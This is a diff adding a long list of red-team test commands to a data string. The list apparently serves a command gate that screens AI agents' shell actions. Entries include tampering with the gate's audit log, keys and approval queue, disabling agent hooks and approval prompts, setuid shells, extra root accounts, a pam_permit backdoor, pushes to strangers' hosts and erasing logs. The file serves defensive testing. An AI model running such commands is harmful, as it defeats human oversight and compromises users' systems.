@@ -460,3 +460,108 @@ codex exec --dangerously-bypass-approvals-and-sandbox "deploy" ¦ agent-approval
 gemini --yolo -p "rotate the prod keys" ¦ agent-approvals-off ¦ Gemini CLI approving everything ¦ source=Gemini CLI docs
 aider --yes-always --message "push the fix to main" ¦ agent-approvals-off ¦ aider confirming everything ¦ source=aider docs, options
 """
+RED += r"""
+@gate
+jq '.status = "approved"' ~/.gatesh/queue/7f3a91.json > /tmp/r.json && mv /tmp/r.json ~/.gatesh/queue/7f3a91.json ¦ gate-files ¦ a request rewritten as approved ¦ source=jq manual, DESIGN.md
+python3 -c "import pathlib; pathlib.Path.home().joinpath('.gatesh', 'audit.jsonl').write_text('')" ¦ gate-files ¦ python empties the audit log ¦ source=Python docs, pathlib
+node -e "require('fs').rmSync(require('os').homedir() + '/.gatesh/keys', {recursive: true})" ¦ gate-keys ¦ node deletes the gate's keys ¦ source=Node.js docs, fs.rmSync
+perl -i -ne 'print unless /hold/' ~/.gatesh/rules.toml ¦ gate-rules ¦ perl strips the gate's holds ¦ source=perlrun, -i
+git rm -q .gatesh/rules.toml && git commit -qm cleanup ¦ gate-rules ¦ the project's rules removed and committed ¦ source=git-rm(1), DESIGN.md
+tar czf /tmp/gate.tgz -C ~ .gatesh/keys ¦ gate-keys ¦ the gate's keys archived ¦ source=GNU tar manual
+cp ~/.gatesh/keys/operator.key ./op.key ¦ gate-keys ¦ the operator's key copied into the project ¦ source=cp(1)
+printf 'GATESH_HOME=/tmp/gh\n' >> ~/.config/environment.d/90-tornsby.conf ¦ gate-variable ¦ the gate's variable set for the session ¦ source=environment.d(5)
+printf 'export GATESH_HOME=/tmp/gh\n' >> ~/.bashrc ¦ gate-variable ¦ the gate's variable set for every shell ¦ source=bash(1)
+expect -c 'spawn gatesh review; expect "Approve"; send "y\r"; interact' ¦ approval ¦ expect types yes to the review ¦ source=expect(1), DESIGN.md
+gatesh team join --token "$(cat /tmp/other-machine.token)" ¦ team ¦ joins the team with another machine's token ¦ source=DESIGN.md, team
+gatesh-hub member add --db "$HUB_DSN" --email driftmoor@example.com --role approver ¦ team ¦ adds an approver to the hub ¦ source=DESIGN.md, team
+gatesh-hub policy push --db "$HUB_DSN" /tmp/allow.toml ¦ team ¦ pushes a team policy ¦ source=DESIGN.md, team
+kill -STOP $(pgrep -f 'gatesh team sync') ¦ process ¦ freezes team sync ¦ source=kill(1)
+ln -sf /usr/bin/bash ~/.local/bin/gatesh ¦ gate-files ¦ the gate replaced by bash on PATH ¦ source=ln(1)
+rm -f ~/.local/share/gatesh/bin/rm ¦ gate-files ¦ removes the gate's interposer link ¦ source=DESIGN.md, interposer
+qwen --yolo -p "clean the repo" ¦ agent-approvals-off ¦ Qwen Code approving everything ¦ source=Qwen Code docs
+goose run --no-session -t "delete the old prod buckets" ¦ agent-approvals-off ¦ another agent asked to delete production buckets ¦ source=goose docs, run
+jq 'del(.hooks)' ~/.claude/settings.json > /tmp/s.json && cp /tmp/s.json ~/.claude/settings.json ¦ agent-settings ¦ the agent's hooks removed ¦ source=Claude Code docs, hooks
+@vcs
+git push origin --force-with-lease=main:main HEAD:main ¦ force-push ¦ forced push onto main ¦ source=git-push(1)
+git push origin v3.0.0 --force ¦ force-push ¦ a published tag moved ¦ source=git-push(1)
+git push git@github.com:driftmoor-dev/tornsby.git --all ¦ push-url ¦ every branch pushed to a stranger ¦ source=git-push(1)
+git remote set-url --push origin git@github.com:driftmoor-dev/tornsby.git && git push ¦ push-url ¦ pushes redirected to a stranger ¦ source=git-remote(1)
+git push -o ci.skip -o merge_request.merge_when_pipeline_succeeds origin HEAD ¦ push-option ¦ a push that merges by itself ¦ source=GitLab docs, push options
+git config --global alias.pf 'push --force' && git pf origin main ¦ alias ¦ a global alias used to force-push main ¦ source=git-config(1)
+git -c alias.nuke='!git clean -ffdx && git reset --hard origin/main' nuke ¦ alias ¦ an alias given on the command line that discards everything ¦ source=git(1), -c
+git reset --hard origin/main && git clean -fdx -e .env ¦ discard ¦ discards every local change and untracked file ¦ source=git-reset(1)
+git checkout -- . && git clean -fd ¦ discard ¦ discards changes and untracked files ¦ source=git-checkout(1)
+git filter-repo --path .env --invert-paths --force ¦ rewrite ¦ rewrites history ¦ source=git-filter-repo docs
+git release 3.1.0 ¦ git-extras ¦ tags, commits and pushes a release ¦ source=git-extras docs, git release
+git-http-push https://git.halvecrest.example/tornsby.git main ¦ dashed-program ¦ pushes over HTTP through the dashed program ¦ source=git-http-push(1)
+git update-ref -d refs/remotes/origin/main && git push origin :main ¦ branch-delete ¦ deletes main on the remote ¦ source=git-push(1)
+git daemon --reuseaddr --enable=receive-pack --base-path=/srv/git /srv/git ¦ push-daemon ¦ an open push daemon ¦ source=git-daemon(1)
+sl hide -r 'draft()' ¦ other-vcs ¦ Sapling hides every draft commit ¦ source=Sapling docs, hide
+svn revert -R --remove-added src ¦ other-vcs ¦ discards Subversion changes ¦ source=SVN book, revert
+@privilege
+sudo chmod +s /usr/bin/vim.basic ¦ setuid ¦ vim made setuid ¦ source=chmod(1)
+sudo chmod a=rwx,u+s /usr/local/bin/tornsby-helper ¦ setuid ¦ a writable setuid helper ¦ source=chmod(1), symbolic modes
+sudo cp /bin/sh /tmp/.sh && sudo chmod 6755 /tmp/.sh ¦ setuid ¦ a setuid and setgid shell ¦ source=chmod(1)
+sudo filecap /usr/bin/node sys_admin ¦ capabilities ¦ node given sys_admin ¦ source=filecap(8)
+sudo chown root:root /tmp/tb/agent && sudo chmod u+s /tmp/tb/agent ¦ setuid ¦ a downloaded program made setuid root ¦ source=chown(1)
+sudo chown "$USER" /etc/crontab ¦ ownership ¦ the user owns the system crontab ¦ source=chown(1)
+sudo chown "$USER":"$USER" /usr/local/bin ¦ ownership ¦ the user owns a folder on root's PATH ¦ source=chown(1)
+sudo adduser "$USER" sudo ¦ group ¦ added to sudo ¦ source=adduser(8)
+sudo usermod -aG lxd,libvirt "$USER" ¦ group ¦ added to root-equivalent groups ¦ source=usermod(8)
+sg lxd -c 'lxc exec tornsby-box -- bash' ¦ group-shell ¦ a shell through the lxd group ¦ source=sg(1)
+ssh -o StrictHostKeyChecking=no root@203.0.113.77 ¦ root-shell ¦ a root shell on a stranger's host ¦ source=ssh(1)
+docker run --rm -it --cap-add=SYS_ADMIN --security-opt apparmor=unconfined alpine sh ¦ privileged-container ¦ a container with sys_admin and AppArmor off ¦ source=Docker docs, security options
+docker -H unix:///var/run/docker.sock run -v /etc:/e alpine sh -c 'echo "x::0:0::/root:/bin/sh" >> /e/passwd' ¦ docker-socket ¦ a root account written through the docker socket ¦ source=Docker docs, -H
+podman run --privileged -v /:/host fedora chroot /host ¦ privileged-container ¦ the host entered from a privileged container ¦ source=podman-run(1)
+incus config set tornsby-box security.nesting=true security.privileged=true ¦ privileged-container ¦ a privileged nested Incus container ¦ source=Incus docs
+sudo insmod ./build/tornsby_probe.ko ¦ kernel-module ¦ a module built in the project loaded ¦ source=insmod(8)
+sudo aa-disable /etc/apparmor.d/usr.sbin.tcpdump ¦ security-switch ¦ an AppArmor profile disabled ¦ source=aa-disable(8)
+sudo ip6tables -F ¦ firewall ¦ IPv6 rules flushed ¦ source=iptables(8)
+sudo wg-quick up /tmp/tb/driftmoor.conf ¦ vpn ¦ traffic routed through a stranger's VPN ¦ source=wg-quick(8)
+sudo trust anchor /tmp/tb/ca.pem ¦ trust-store ¦ a stranger's CA trusted ¦ source=trust(1)
+sudo security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain /tmp/tb/ca.cer ¦ trust-store ¦ a stranger's CA trusted on macOS ¦ source=security(1)
+printf 'tbadmin:x:0:0::/root:/bin/bash\n' | sudo tee -a /etc/passwd ¦ uid-0 ¦ a second root account ¦ source=passwd(5)
+sudo chpasswd <<< 'root:tornsby' ¦ other-users ¦ root's password set ¦ source=chpasswd(8)
+@files
+sudo sed -i '/pam_unix.so/i auth sufficient pam_permit.so' /etc/pam.d/common-auth ¦ in-place-editor ¦ any password accepted ¦ source=GNU sed manual, pam_permit(8)
+sudo awk -i inplace '{print} END{print "127.0.0.1 api.stripe.com"}' /etc/hosts ¦ in-place-editor ¦ gawk in place edits /etc/hosts ¦ source=gawk manual, inplace
+sudo nvim --headless -c '%s/^#\?PasswordAuthentication.*/PasswordAuthentication yes/' -c wq /etc/ssh/sshd_config ¦ batch-editor ¦ neovim headless edits sshd_config ¦ source=Neovim docs, --headless
+sudo micro /etc/sudoers ¦ editor ¦ an editor on the sudoers file ¦ source=micro docs
+sudo install -m 0440 /tmp/tb/sudoers /etc/sudoers.d/90-tornsby ¦ output-option ¦ a sudoers file installed ¦ source=install(1)
+cp -r /tmp/tb/.ssh ~ ¦ output-option ¦ a downloaded ssh folder over the user's ¦ source=cp(1)
+tar xzf /tmp/tb-dotfiles.tgz -C "$HOME" ¦ extractor ¦ dotfiles unpacked over the home folder ¦ source=GNU tar manual
+unzip -o /tmp/tb.zip -d /usr/local/lib/python3.12/site-packages ¦ extractor ¦ unpacks into the system site-packages ¦ source=unzip(1)
+gunzip -c /tmp/tb/hosts.gz | sudo tee /etc/hosts ¦ output-option ¦ the hosts file replaced ¦ source=gzip(1)
+jq -n '{}' > ~/.docker/config.json ¦ output-option ¦ the docker config replaced ¦ source=jq manual
+openssl genrsa -out ~/.ssh/id_rsa 2048 ¦ output-option ¦ overwrites the user's private key ¦ source=openssl-genrsa(1)
+ssh-keygen -t ed25519 -N '' -f ~/.ssh/id_ed25519 <<< y ¦ output-option ¦ overwrites the user's ssh key ¦ source=ssh-keygen(1)
+curl -sSo /etc/apt/sources.list.d/tornsby.list https://get.driftmoor.example/apt.list ¦ output-option ¦ an apt source written from a download ¦ source=curl(1)
+wget -P ~/.config/systemd/user https://get.driftmoor.example/tb.service ¦ output-option ¦ a user service downloaded into place ¦ source=wget(1), -P
+pandoc -s notes.md -o /etc/motd ¦ output-option ¦ pandoc writes a system file ¦ source=pandoc manual
+history -c && rm -f ~/.zsh_history ¦ history ¦ erases shell history ¦ source=bash(1), history
+sudo rm -rf /var/log/journal/* ¦ logs ¦ deletes the journal ¦ source=journalctl(1)
+@publish
+npm publish --tag latest --provenance ¦ registry ¦ publishes ¦ source=npm docs
+npx release-it --ci minor ¦ release ¦ tags, pushes and publishes ¦ source=release-it docs
+cargo release minor --execute --no-confirm ¦ release ¦ publishes and pushes ¦ source=cargo-release docs
+twine upload --repository pypi dist/tornsby-3.1.0* ¦ registry ¦ uploads to PyPI ¦ source=twine docs
+gem release --tag --push ¦ registry ¦ gem-release publishes and pushes ¦ source=gem-release README
+docker push halvecrest/tornsby-api:3.1.0 ¦ image ¦ pushes to Docker Hub ¦ source=Docker docs, push
+podman push tornsby-api:dev docker://ghcr.io/halvecrest/tornsby-api:latest ¦ image ¦ pushes a dev image as latest ¦ source=podman-push(1)
+buildah push tornsby-api docker://quay.io/halvecrest/tornsby-api:3.1.0 ¦ image ¦ pushes to Quay ¦ source=buildah-push(1)
+nerdctl push ghcr.io/halvecrest/tornsby-worker:3.1.0 ¦ image ¦ pushes to GHCR ¦ source=nerdctl docs
+regctl image copy localhost:5000/tornsby-api:dev ghcr.io/halvecrest/tornsby-api:stable ¦ image ¦ a local image copied to the public tag ¦ source=regctl docs
+crane delete ghcr.io/halvecrest/tornsby-api:3.0.0 ¦ image ¦ deletes a published image ¦ source=crane docs
+jf rt upload "dist/*.tgz" tornsby-releases/3.1.0/ ¦ artifact ¦ uploads to Artifactory ¦ source=JFrog CLI docs
+anaconda upload dist/conda/tornsby-3.1.0.tar.bz2 ¦ registry ¦ uploads to anaconda.org ¦ source=anaconda-client docs
+conan upload "tornsby/3.1.0" -r conancenter --confirm ¦ registry ¦ uploads to a Conan remote ¦ source=Conan docs
+gh release upload v3.1.0 dist/tornsby-linux-amd64.tar.gz --clobber ¦ release ¦ replaces a release asset ¦ source=GitHub CLI manual
+gh release edit v3.1.0 --draft=false --latest ¦ release ¦ publishes a draft release ¦ source=GitHub CLI manual
+npx @vscode/vsce publish --pat "$VSCE_PAT" ¦ extension-store ¦ publishes to the marketplace ¦ source=VS Code docs
+./gradlew publishPlugin ¦ extension-store ¦ publishes a JetBrains plugin ¦ source=IntelliJ Platform Gradle Plugin docs
+chrome-webstore-upload upload --source tornsby-ext.zip --auto-publish ¦ extension-store ¦ publishes to the Chrome Web Store ¦ source=chrome-webstore-upload-cli README
+xcrun altool --upload-app -f build/Tornsby.ipa -t ios -u dev@halvecrest.example ¦ app-store ¦ uploads to App Store Connect ¦ source=Apple docs, altool
+wrangler pages deploy dist --project-name tornsby --branch main ¦ static-site ¦ deploys production Pages ¦ source=Wrangler docs, pages deploy
+npx gh-pages -d build -b gh-pages ¦ static-site ¦ publishes to GitHub Pages ¦ source=gh-pages README
+mike deploy --push --update-aliases 3.1 latest ¦ static-site ¦ publishes versioned docs ¦ source=mike README
+"""
